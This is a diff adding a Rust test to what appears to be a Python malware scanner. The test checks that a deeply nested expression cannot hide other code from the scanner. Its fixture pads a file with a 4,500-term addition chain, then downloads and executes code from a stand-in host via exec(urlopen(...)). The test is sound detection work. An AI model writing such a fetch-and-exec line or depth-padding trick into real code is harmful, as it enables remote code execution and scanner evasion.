@@ -769,3 +769,28 @@ fn large_sources_are_all_scanned() {
     files.sort_unstable();
     assert_eq!(files, ["big0.py", "big1.py", "big2.py"], "{}", stderr(&out));
 }
+
+#[test]
+fn code_nested_too_deep_hides_nothing_beside_it() {
+    // One expression nested past the engine's depth (a chain of 4,500 additions: CPython 3.11
+    // and 3.12 refuse to compile it, others run it) is reported as an error, and the rest of
+    // the file is still read: the download run beside it is reported.
+    let dir = repo();
+    let chain = vec!["\"\""; 4500].join(" + ");
+    write(
+        dir.path(),
+        "deep.py",
+        &format!(
+            "import urllib.request\npad = {chain}\nexec(urllib.request.urlopen(\"https://x.example/a\").read())\n"
+        ),
+    );
+    let out = pysbx(dir.path())
+        .args(["scan", "--no-cache", "--format", "json", "deep.py"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
+    let text = report.to_string();
+    assert!(text.contains("levels deep"), "{text}");
+    assert!(text.contains("PSB907"), "{text}");
+}
